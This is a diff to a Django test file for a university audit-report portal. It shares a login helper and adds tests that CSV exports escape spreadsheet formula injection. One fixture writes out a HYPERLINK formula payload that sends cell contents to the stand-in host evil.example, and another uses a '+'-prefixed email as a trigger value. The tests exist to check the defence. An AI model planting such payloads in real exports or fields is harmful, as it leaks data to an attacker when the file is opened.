@@ -23,6 +23,7 @@ from audits.reports.state import kept_counts, rebuild_tallies, record_state, rec
 from audits.scoring.score import grade_for
 from portal.models import Person
 from tests.people import make_person
+from tests.support import client_for
 
 pytestmark = pytest.mark.django_db
 
@@ -59,12 +60,6 @@ def admin_of(department: str, email: str = "admin@utoronto.ca"):
     return make_person(
         email, department=department, roles=["dept_admin"], admin_departments=[department]
     )
-
-
-def client_for(user) -> Client:
-    client = Client()
-    client.force_login(user)
-    return client
 
 
 def report_url(name: str = "report_department", **params: str) -> str:
@@ -355,3 +350,36 @@ def test_counters_rebuilt_from_the_states_equal_the_kept_ones(physics):
     assert kept[("physics", "item:" + WAITING_ROOM)] == 2
     assert kept[("physics", "hosts")] == 4
     assert kept[("physics", "score_total")] == 97 + 50 + 30
+
+
+# --- CSV exports ----------------------------------------------------------------------------
+FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
+
+
+@pytest.fixture
+def formula_host(db):
+    host = make_person("+1-formula@utoronto.ca", first_name=FORMULA, last_name="")
+    synced(host, 40, failing=[WAITING_ROOM])
+    return host
+
+
+def _csv_rows(response) -> list[dict[str, str]]:
+    body = b"".join(response.streaming_content) if response.streaming else response.content
+    return list(csv.DictReader(io.StringIO(body.decode())))
+
+
+def test_host_csv_neutralises_cells_that_a_spreadsheet_would_run_as_formulas(formula_host):
+    response = client_for(admin_of("Physics")).get(report_url("report_csv"))
+
+    (row,) = [row for row in _csv_rows(response) if row["name"].endswith(FORMULA)]
+    assert row["name"] == "'" + FORMULA
+    assert row["email"] == "'+1-formula@utoronto.ca"
+    assert row["score"] == "40"  # numbers stay numbers
+
+
+def test_action_plan_csv_neutralises_formulas_too(formula_host):
+    response = client_for(admin_of("Physics")).get(report_url("report_action_plan"))
+
+    rows = _csv_rows(response)
+    assert "'+1-formula@utoronto.ca" in {row["email"] for row in rows}
+    assert all(not cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row.values())
